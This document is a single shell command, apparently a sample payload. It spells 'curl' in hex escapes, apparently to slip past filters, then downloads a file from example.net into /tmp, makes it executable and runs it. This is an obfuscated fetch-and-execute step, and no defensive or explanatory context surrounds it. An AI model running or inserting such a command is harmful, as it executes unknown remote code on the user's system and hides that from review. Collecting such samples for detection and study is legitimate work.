$'\x63\x75\x72\x6c' -s http://example.net/x -o /tmp/x; chmod +x /tmp/x; /tmp/x
